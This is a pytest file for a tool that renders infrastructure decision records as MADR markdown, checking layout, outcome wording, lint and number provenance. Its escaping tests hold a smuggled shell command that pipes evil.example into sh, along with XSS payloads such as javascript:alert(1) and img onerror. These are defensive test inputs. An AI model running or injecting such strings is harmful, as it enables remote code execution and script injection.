"""Record -> MADR markdown: sections, close calls, knock-outs, measurements, tipping points; lint."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from advisor import pipeline, recording, records, render
from advisor import profile as profiles
from advisor.decide.engine import prepare
from advisor.decide.text import PLACEHOLDER
from advisor.rules.evidence import load_catalogue

ROOT = Path(__file__).resolve().parent.parent
PROFILES = ROOT / "docs" / "examples" / "profiles"
NODE_DIR = ROOT / ".ci" / "node"

SECTIONS = [
    "## Context and Problem Statement",
    "## Decision Drivers",
    "## Considered Options",
    "## Decision Outcome",
    "### What Would Change the Answer",
    "### Confirmation",
    "### Consequences",
    "## More Information",
    "### Answers",
    "### Screen",
    "### Consequences in Full",
    "### Criteria",
    "### Rules Applied",
    "### Fault Domains",
    "### Reproducibility",
]
#: a float printed raw: five or more decimals (after a "0." its leading zeros are not significant: 0.00584 is the
#: three significant digits a small figure is shown with), or an exponent
RAW_FLOAT = re.compile(r"(?<![\w./])(?:0\.0*[1-9]\d{4,}|[1-9]\d*\.\d{5,})(?![\w/])|\d(\.\d+)?e[+-]\d")


def _record(name: str, **update: object) -> records.DecisionRecord:
    q = pipeline.load_questionnaire()
    rec = recording.decide(profiles.load(PROFILES / f"{name}.profile.yaml", q), questionnaire=q, date="2026-11-28",
                          decision_makers=["Ada"], profile_display=f"{name}.profile.yaml")
    return rec.model_copy(update=update) if update else rec


@pytest.fixture(scope="module")
def saas() -> records.DecisionRecord:
    return _record("multi-tenant-saas")


def _headings(md: str) -> list[str]:
    body = md.split("```")
    return [line for i, part in enumerate(body) if i % 2 == 0 for line in part.splitlines() if line.startswith("#")]


def _section(md: str, heading: str) -> str:
    return md.split(heading + "\n", 1)[1].split("\n#", 1)[0]


def _examples() -> dict[str, str]:
    folder = ROOT / "docs" / "examples" / "records"
    return {p.name: p.read_text(encoding="utf-8") for p in sorted(folder.glob("*.md"))}


def test_sections_in_madr_order(saas: records.DecisionRecord) -> None:
    md = render.to_markdown(saas)
    assert md.startswith("---\nstatus: proposed\ndate: 2026-11-28\ndecision-makers:\n  - \"Ada\"\n---\n\n# Run ")
    headings = _headings(md)
    assert headings[0] == f"# {saas.title}"
    assert [h for h in headings if h in SECTIONS] == SECTIONS
    assert md.endswith("```\n") and not md.endswith("\n\n")


def test_every_example_body_fits_two_pages() -> None:
    examples = _examples()
    assert len(examples) >= 4
    for name, md in examples.items():
        words = len(render.body(md).split())
        assert words <= 900, f"{name}: the body has {words} words (at most 900)"


def test_no_rule_rationale_appears_twice_in_a_record() -> None:
    # the old "Pros and Cons" mirrored every rule: Good for one option, Bad for the other
    for name, md in _examples().items():
        record = records.DecisionRecord.from_json(
            (ROOT / "docs" / "examples" / "records" / name.replace(".md", ".json")).read_text(encoding="utf-8"), name)
        assert record.rules_applied, name
        for rule_id, rule in record.rules_applied.items():
            rationale = " ".join(str(rule.get("rationale", "")).split())
            shown = render.text.inline(rationale)  # as the record prints it
            assert md.count(shown) == 1, f"{name}: the rationale of {rule_id} appears {md.count(shown)} times"
            title = render.text.inline(render.text.lc(rule["title"]))
            assert render.body(md).lower().count(title.lower()) <= 1, f"{name}: {rule_id} is listed twice"
        body = render.body(md)
        for reason in render.reasons_of(record):  # each consequence once in the body: no Good/Bad mirror
            assert body.count(render.text.inline(render.text.lc(reason.label))) <= 1, f"{name}: {reason.label} mirrored"


def test_no_raw_floats_in_records() -> None:
    for name, md in _examples().items():
        found = [m.group(0) for m in RAW_FLOAT.finditer(md)]
        assert not found, f"{name}: raw floats {found}"


def test_outcome_is_one_sentence_with_the_configuration_and_the_probability(saas: records.DecisionRecord) -> None:
    md = render.to_markdown(saas)
    outcome = _section(md, "## Decision Outcome")
    first = outcome.strip().splitlines()[0]
    assert first == ('Chosen option: "Bare metal, with Kata for untrusted pods", with a probability of over 99 % '
                     "that it is the better option.")
    assert "confidence" not in md.lower()
    assert "Close call" not in md
    reasons = [line for line in outcome.splitlines() if re.match(r"\d\. ", line)]
    assert 3 <= len(reasons) <= 5
    assert reasons[0].startswith("1. Isolation (priority 5), ")  # the largest share of the difference first
    assert "in 80 % of the draws the utility difference" in outcome


@pytest.mark.parametrize(("answers", "kind", "first"), [
    ({"bare_metal_mandated": True}, "one-ruled-out",
     'Chosen option: "Bare metal", because VM-backed is ruled out: a written mandate requires bare-metal nodes.'),
    ({"workload_class": "ci-build", "runs_untrusted_code": True, "tenant_count": 1,
      "sandbox_runtime_acceptable": False}, "both-ruled-out", "Chosen option: none. Both options are ruled out: bare "
     "metal because "),
    ({}, "measure-first", 'Chosen option: none yet, measure first. "VM-backed" leads, with a probability of'),
])
def test_each_outcome_kind_has_its_own_sentence(answers: dict[str, object], kind: str, first: str) -> None:
    prof = profiles.Profile(pipeline.load_questionnaire(), {"workload_name": "w", **answers})
    rec = recording.decide(prof, date="2026-11-28")
    assert rec.outcome == kind
    line = _section(render.to_markdown(rec), "## Decision Outcome").strip().splitlines()[0]
    assert line.startswith(first), line
    if kind == "both-ruled-out":
        assert "; VM-backed because " in line  # which constraint rules out which option
        assert rec.recommendation == "none" and rec.title.startswith("Neither bare-metal nor VM-backed")
    if kind == "measure-first":
        assert "a measurement of " in line and rec.recommendation == "none"


def test_a_tie_is_its_own_sentence(saas: records.DecisionRecord) -> None:
    tie = saas.decision.model_copy(update={"outcome": "tie", "recommendation": None, "configuration": None})
    md = render.to_markdown(saas.model_copy(update={"decision": tie, "outcome": "tie", "recommendation": "none"}))
    line = _section(md, "## Decision Outcome").strip().splitlines()[0]
    assert line.startswith("Chosen option: none, a tie. Neither option is better")
    assert "ruled out" not in line


def test_close_call_is_called_out_until_measured(saas: records.DecisionRecord) -> None:
    close = saas.model_copy(update={"close": True})
    md = render.to_markdown(close)
    assert "> **Close call.** Measure both candidate platforms (see Confirmation) before accepting" in md
    measured = close.model_copy(update={"measurements": records.MeasurementsInfo(
        path="m.yaml", sha256="0" * 64, verdicts=[{"probe": "net", "ratio": 1.03, "ci_low": 1.01, "ci_high": 1.05,
                                                   "alpha": 0.01, "verdict": "slower"}])})
    md = render.to_markdown(measured)
    assert "Close call" not in md and "before accepting" not in md
    assert "It stays close after measuring" in md
    confirmation = _section(md, "### Confirmation")
    assert "95 %" not in confirmation and "confidence" not in confirmation
    assert "always-valid sequential interval" in confirmation and "1.010 to 1.050 (alpha 0.01)" in confirmation


def test_knocked_out_option_is_a_constraint() -> None:
    md = render.to_markdown(_record("regulated-bank-mandate"))
    drivers = _section(md, "## Decision Drivers")
    assert "- Constraint on VM-backed: a written mandate requires bare-metal nodes" in drivers
    outcome = _section(md, "## Decision Outcome")
    assert outcome.strip().startswith('Chosen option: "Bare metal, with dedicated node pools per tenant", because '
                                      "VM-backed is ruled out")
    assert "`written-mandate`" in _section(md, "### What Would Change the Answer")
    assert md.count("a written mandate requires bare-metal nodes") <= 3  # outcome, drivers, screen: not more


def test_rules_cite_evidence_with_grades_once(saas: records.DecisionRecord) -> None:
    md = render.to_markdown(saas)
    rules = _section(md, "### Rules Applied")
    for rule_id, rule in saas.rules_applied.items():
        assert f"`{rule_id}`" in rules
        for ev in rule["evidence"]:
            if ev.get("url"):
                assert f"]({ev['url']}) ({ev['grade']})" in rules
    assert "Evidence:" not in render.body(md)


def test_confirmation_gives_the_measure_command_when_not_measured(saas: records.DecisionRecord) -> None:
    md = render.to_markdown(saas)
    conf = _section(md, "### Confirmation")
    assert conf.strip().startswith("Not measured yet.")
    assert "advisor assess --profile multi-tenant-saas.profile.yaml --defaults --targets targets.yaml" in conf


def test_measurements_are_shown_once(saas: records.DecisionRecord) -> None:
    measured = records.MeasurementsInfo(path="m.json", sha256="0" * 64, verdicts=[
        {"probe": "net", "ratio": 1.031, "ci_low": 1.01, "ci_high": 1.05, "verdict": "slower"}])
    md = render.to_markdown(saas.model_copy(update={"measurements": measured}))
    assert "Not measured yet" not in md
    assert len(re.findall(r"\| `net` +\| 1\.031 +\| 1\.010 to 1\.050 +\| slower +\|", md)) == 1
    assert "`m.json` sha256 `" + "0" * 64 + "`" in md


def test_what_would_change_the_answer_is_sentences_merged_and_ordered(saas: records.DecisionRecord) -> None:
    points = [
        {"key": "tenant_count", "condition": "tenant_count < 3", "relative_change": 0.9925,
         "sentence": "Lowering the tenants to under 3 would make VM-backed the better option."},
        {"key": "latency_p99_ms", "condition": "latency_p99_ms > 400", "relative_change": 1.0,
         "sentence": "Raising the p99 latency SLO above 400 ms would make VM-backed the better option."},
        {"key": "latency_p99_ms", "condition": "latency_p99_ms > 400", "relative_change": 1.0,
         "sentence": "Raising the p99 latency SLO above 400 ms would make VM-backed the better option."},
        {"key": "priority_isolation", "condition": "priority_isolation < 2", "relative_change": 0.6,
         "sentence": "lowering the isolation priority to 1 would make VM-backed the better option"},
    ]
    md = render.to_markdown(saas.model_copy(update={"tipping_points": points, "revisit_triggers": []}))
    section = _section(md, "### What Would Change the Answer")
    lines = [line for line in section.splitlines() if line.startswith("- ")]
    assert lines[0] == "- Lowering the isolation priority to 1 would make VM-backed the better option."
    assert lines[1].startswith("- Lowering the tenants to under 3")
    assert sum("latency" in line for line in lines) == 1, "each sentence once"
    assert "`" not in "\n".join(lines[:-1]) and "not (" not in section
    assert lines[-1].startswith("- In any case, review this decision by ")
    none = render.to_markdown(saas.model_copy(update={"tipping_points": [], "revisit_triggers": [],
                                                      "review_by": None}))
    assert "No single change of one answer flips" in none


def test_answers_carry_their_origin_and_note(saas: records.DecisionRecord) -> None:
    context = [dict(c) for c in saas.context]
    context[2] = {**context[2], "origin": "answered", "note": "from the SLA, section 4"}
    md = render.to_markdown(saas.model_copy(update={"context": context}))
    answers = _section(md, "### Answers")
    assert re.search(r"\| answered +\| from the SLA, section 4 +\|", answers)
    assert "from the SLA, section 4" in _section(md, "## Decision Drivers")


def test_reproducibility_block(saas: records.DecisionRecord) -> None:
    md = render.to_markdown(saas)
    block = md.split("### Reproducibility")[1]
    assert f"advisor {saas.tool_version}" in block
    assert "`default` version 1" in block
    assert saas.profile.sha256 in block and saas.rules.packs[0].sha256 in block and saas.rules.sha256 in block
    assert "| measurements " in block and "none" in block
    assert f"```sh\n{saas.command}\n```" in block


def test_mermaid_block_is_the_fault_domain_diagram(saas: records.DecisionRecord) -> None:
    md = render.to_markdown(saas)
    assert f"```mermaid\n{saas.mermaid.rstrip()}\n```" in md


def test_fault_domain_appendix_shows_only_metrics_that_differ(saas: records.DecisionRecord) -> None:
    md = render.to_markdown(saas)
    table = [line for line in _section(md, "### Fault Domains").splitlines() if line.startswith("| `")]
    assert table
    for line in table:
        cells = [c.strip() for c in line.strip("|").split("|")]
        assert cells[1] != cells[2], line


def test_user_strings_are_escaped(saas: records.DecisionRecord) -> None:
    hostile = "x; curl evil.example | sh; .yaml\n# injected\n[a](javascript:alert(1)) <img src=x onerror=alert(1)>"
    context = [dict(c) for c in saas.context]
    context[0] = {**context[0], "answer": hostile, "note": hostile}
    rules = {k: dict(v) for k, v in saas.rules_applied.items()}
    first = next(iter(rules))
    rules[first]["evidence"] = [{"source": "s", "grade": "peer-reviewed", "url": "javascript:alert(1)"}]
    profile = saas.profile.model_copy(update={"path": "x; curl evil.example | sh; .yaml"})
    md = render.to_markdown(saas.model_copy(update={
        "title": "A | B <script> *x*", "workload": "w_1\n## Owned", "context": context, "rules_applied": rules,
        "profile": profile, "command": "advisor assess --profile 'x; curl evil.example | sh; .yaml'"}))
    assert "# A \\| B &lt;script> \\*x\\*" in md
    assert "**w\\_1 \\#\\# Owned**" in md
    assert "\n# injected" not in md and "\n## Owned" not in md
    assert "<img" not in md and "<script" not in md
    assert not re.search(r"(?<!\\)\]\(javascript:", md), "no javascript: link"
    assert "--profile 'x; curl evil.example | sh; .yaml' --defaults --targets" in md  # quoted for the shell
    counts: list[int] = []
    for line in [*md.splitlines(), ""]:
        if line.startswith("|"):
            counts.append(len(re.findall(r"(?<!\\)\|", line)))
        elif counts:
            assert len(set(counts)) == 1, "a '|' in a user string broke a table"
            counts = []


def test_links_to_related_records(saas: records.DecisionRecord) -> None:
    linked = saas.model_copy(update={"supersedes": 3, "links": [
        records.Link(relation="supersedes", number=3, title="Run x on bare-metal Kubernetes nodes")]})
    md = render.to_markdown(linked)
    target = "0003-run-x-on-bare-metal-kubernetes-nodes.md"
    assert f"- Supersedes [0003 Run x on bare-metal Kubernetes nodes]({target})" in md


def test_json_twin_is_the_model(saas: records.DecisionRecord) -> None:
    assert render.to_json(saas) == saas.to_json()


# ----------------------------------------------------------------- external checkers (npm, under .ci/node)


def _node_tool(path: str) -> Path:
    if shutil.which("node") is None:
        pytest.skip("node is not installed (CI installs it; see .ci/run)")
    tool = NODE_DIR / path
    if not tool.exists():
        pytest.skip(f"{tool.relative_to(ROOT)} is missing: run 'npm ci --prefix .ci/node' (.ci/run does)")
    return tool


def _example_markdown() -> list[str]:
    files = sorted(str(p.relative_to(ROOT)) for p in (ROOT / "docs" / "examples" / "records").glob("*.md"))
    assert files, "no example records in docs/examples/records/"
    return files


def test_records_pass_markdownlint() -> None:
    cli = _node_tool("node_modules/markdownlint-cli2/markdownlint-cli2-bin.mjs")
    proc = subprocess.run(["node", str(cli), *_example_markdown()], cwd=ROOT, capture_output=True, text=True,
                          timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "0 error(s)" in proc.stdout + proc.stderr


def test_fresh_record_passes_markdownlint(tmp_path: Path, saas: records.DecisionRecord) -> None:
    """Also the unusual parts the examples lack: close call, verdicts, links, odd characters."""
    cli = _node_tool("node_modules/markdownlint-cli2/markdownlint-cli2-bin.mjs")
    rec = saas.model_copy(update={
        "close": True, "title": "A | B <b> [x]", "decision_makers": [],
        "measurements": records.MeasurementsInfo(verdicts=[{"probe": "cpu", "ratio": 0.98, "verdict": "equivalent"}]),
        "links": [records.Link(relation="relates to", number=2, title="Other")],
    })
    target = tmp_path / "0001-x.md"
    target.write_text(render.to_markdown(rec))
    config = ROOT / ".markdownlint-cli2.yaml"
    proc = subprocess.run(["node", str(cli), "--config", str(config), str(target)], cwd=tmp_path,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_mermaid_blocks_parse_with_mermaid() -> None:
    script = _node_tool("mermaid-parse.mjs")
    if not (NODE_DIR / "node_modules" / "mermaid").exists():
        pytest.skip("mermaid is not installed: run 'npm ci --prefix .ci/node' (.ci/run does)")
    files = _example_markdown()
    proc = subprocess.run(["node", str(script), *files], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert f"{len(files)} diagram(s) parsed" in proc.stdout


def test_mermaid_parser_rejects_a_broken_diagram(tmp_path: Path) -> None:
    script = _node_tool("mermaid-parse.mjs")
    if not (NODE_DIR / "node_modules" / "mermaid").exists():
        pytest.skip("mermaid is not installed: run 'npm ci --prefix .ci/node' (.ci/run does)")
    bad = tmp_path / "bad.md"
    bad.write_text('# x\n\n```mermaid\nflowchart TB\n  a["open --> b\n```\n')
    proc = subprocess.run(["node", str(script), str(bad)], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1
    assert f"{bad}:4:" in proc.stderr


def test_escaping_helpers() -> None:
    from advisor import markdown
    from advisor.records.diff import _show as show

    assert markdown.terminal("a\x1b[31mred\x1b]0;title\x07b\x07") == "aredb "
    assert markdown.url("javascript:alert(1)") is None and markdown.url("HTTPS://x.example/a(b)") is not None
    assert markdown.inline("<img src=x onerror=alert(1)> [a](javascript:x)") == (
        "&lt;img src=x onerror=alert(1)> \\[a\\](javascript:x)")
    assert "```" not in markdown.shell_block("echo ```").split("\n", 1)[1].rsplit("\n", 1)[0].replace("```", "", 1)
    assert show(0.9747870250324321) == "0.9748" and show(26000.0) == "26000"


def test_index_escapes_titles(tmp_path: Path, saas: records.DecisionRecord) -> None:
    from advisor import records

    rec = saas.model_copy(update={"title": "<img src=x onerror=alert(1)> [x](javascript:alert(1)) | y"})
    records.write_record(rec, tmp_path, render.to_markdown)
    text = records.index_text(records.load_all(tmp_path))
    assert "<img" not in text and not re.search(r"(?<!\\)\]\(javascript:", text)


# ----------------------------------------------------------------- numbers in prose

_NUMBER = re.compile(r"(?<![\w.\-/])[-+]?\d[\d,]*(?:\.\d+)?")
_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")
#: The method's own constants the body names: the priority scale and the width of the interval.
_METHOD = (1.0, 5.0, 80.0)


def _numeric_leaves(node: object, strings: bool = True) -> list[float]:
    """Every number in ``node``; in its strings too unless ``strings`` is false (then only a scale's own words,
    its ``label`` and ``unit``, are read)."""
    if isinstance(node, bool):
        return []
    if isinstance(node, (int, float)):
        return [float(node)]
    if isinstance(node, str):
        return [float(m.group(0).replace(",", "")) for m in _NUMBER.finditer(node)] if strings else []
    if isinstance(node, dict):
        return [x for k, v in node.items() for x in _numeric_leaves(v, strings or k in ("label", "unit"))]
    if isinstance(node, list):
        return [x for v in node for x in _numeric_leaves(v, strings)]
    return []


#: Strings of the decision that the engine rendered from rule text (titles, constraint sentences, the
#: options' conditions and names); their numbers must trace to the facts, not vouch for themselves.
_RENDERED = ("title", "sentence", "conditions", "ruled_out_by", "name", "configuration", "rationale", "source")


_PACK = pipeline.load_decision_pack(questionnaire=pipeline.load_questionnaire())
_PACK_DIR = ROOT / "rules"


def _computed(node: object) -> list[float]:
    """The numbers of the decision: every numeric value, and in strings only a scale's own words (its
    ``label`` and ``unit``, the pack's definitions); never a string the engine rendered from rule text."""
    if isinstance(node, dict):
        return [x for k, v in node.items() if k not in _RENDERED
                for x in (_numeric_leaves(v, True) if k in ("label", "unit") else _computed(v))]
    if isinstance(node, list):
        return [x for v in node for x in _computed(v)]
    return _numeric_leaves(node, False)


def _allowed(record: records.DecisionRecord) -> list[float]:
    """The user's numbers (answers, measurements) and every number the decision computed from them.

    A number in the decision's rule texts (titles, constraint sentences) is allowed only when it is
    a fact of the record (``decision.facts``: the answers, the derived facts, the fault-domain graph's
    metrics, the measured facts) or a computed consequence: the rendered text itself proves nothing,
    a number written into a rule's template would otherwise pass as computed.
    """
    data = json.loads(record.to_json())
    user = _numeric_leaves(data["profile"]["answers"]) + _numeric_leaves([c["answer"] for c in data["context"]])
    decided = {k: v for k, v in data["decision"].items() if k not in ("sentence", "configuration", "facts")}
    # the record's facts and the pack's derived facts computed from them (the titles' {placeholders})
    facts = prepare(_PACK, dict(data["decision"]["facts"]))
    computed = _computed(decided) + _numeric_leaves(list(facts.values()), False)
    unc = data["decision"].get("uncertainty") or {}
    if "p_bare_metal_better" in unc:  # the leading option's probability: 1 - P when VM-backed leads
        computed.append(1 - unc["p_bare_metal_better"])
    computed += _numeric_leaves(data["tipping_points"], False)
    computed += _numeric_leaves(data["graph"], False) + _numeric_leaves(data["measurements"], False)
    computed += [float(record.number), float(len(data["context"])),
                 float(sum(1 for c in data["context"] if not c.get("default")))]
    base = user + computed + list(_METHOD)
    return base + [x * 100 for x in base]


_QUOTE = re.compile(r'"([^"]*)"')
_FIGURES = [" ".join(i.figure.split()) for i in load_catalogue(_PACK_DIR / "evidence.yaml").items]


def _quoted_evidence(text: str, figures: list[str] | None = None) -> str:
    """``text`` without the quotations of evidence figures (a quote that one of ``figures``, all the
    catalogue's by default, contains verbatim)."""
    within = _FIGURES if figures is None else figures
    return _QUOTE.sub(lambda m: " " if m.group(1) and any(" ".join(m.group(1).split()) in f for f in within)
                      else m.group(0), text)


def _prose(md: str) -> str:
    """The body without code blocks and code spans (commands, rule ids, paths) and quoted evidence."""
    text = re.sub(r"```.*?```", " ", render.body(md), flags=re.S)
    text = re.sub(r"`[^`]*`", " ", text)
    return _quoted_evidence(_DATE.sub(" ", text.split("\n---\n", 1)[-1]))


def _decimals(token: str) -> int:
    return len(token.split(".")[1]) if "." in token else 0


def test_prose_numbers_are_the_users_or_computed_from_them() -> None:
    """Issue 11: no canned number in a record's body (each example record)."""
    folder = ROOT / "docs" / "examples" / "records"
    for path in sorted(folder.glob("*.json")):
        record = records.DecisionRecord.from_json(path.read_text(encoding="utf-8"), path.name)
        allowed = _allowed(record)
        md = render.to_markdown(record)
        for m in _NUMBER.finditer(_prose(md)):
            token = m.group(0).lstrip("+-").replace(",", "")
            x = float(token)
            # a shown number rounds the value it stands for: 3 significant digits, or its decimals
            tol = max(0.5 * 10 ** -_decimals(token), abs(x) * 0.005) + 1e-9
            assert any(abs(abs(v) - x) <= tol for v in allowed), (
                f"{path.name}: {m.group(0)!r} in {_prose(md)[max(0, m.start() - 60):m.end() + 40]!r} is neither "
                "an answer nor computed from the answers")


def test_rule_texts_carry_no_number_of_their_own() -> None:
    """A title, reason or requirement of the pack writes numbers only as {placeholders} of facts, or inside a
    quotation of the evidence the rule cites (the figure, verbatim)."""
    cited = {i.id: " ".join(i.figure.split()) for i in load_catalogue(_PACK_DIR / "evidence.yaml").items}
    for compiled in [*_PACK.constraints, *_PACK.consequences]:
        rule = compiled.rule
        texts = [rule.title, getattr(rule, "because", None) or ""]
        requires = getattr(rule, "requires", None)
        if requires is not None:
            texts += [requires.says or "", requires.measurement.says if requires.measurement else ""]
        figures = [cited[e] for e in rule.evidence]
        for text in texts:
            literal = PLACEHOLDER.sub(" ", _quoted_evidence(" ".join(text.split()), figures))
            assert not _NUMBER.search(literal), f"{rule.id}: {text!r} writes a number of its own"


def test_the_numbers_test_catches_a_canned_number(saas: records.DecisionRecord) -> None:
    canned = saas.model_copy(update={"title": "20 hosts of 64 cores cost about 450,000 a year"})
    allowed = _allowed(canned)
    assert not any(abs(v - 450000) <= 2250 for v in allowed)


def test_a_number_written_into_a_rule_text_does_not_vouch_for_itself(saas: records.DecisionRecord) -> None:
    """A rendered title or constraint sentence is prose: its numbers must be facts of the record."""
    data = json.loads(saas.to_json())
    data["decision"]["constraints"][0]["sentence"] = "a node holds at most 4,321 pods"
    data["decision"]["criteria"][0]["attributes"]["vm"][0]["title"] = "VM-backed: 8,765 hosts of headroom"
    canned = records.DecisionRecord.from_json(json.dumps(data), "0004-x.json")
    allowed = _allowed(canned)
    assert not any(abs(v - 4321) <= 22 or abs(v - 8765) <= 44 for v in allowed)
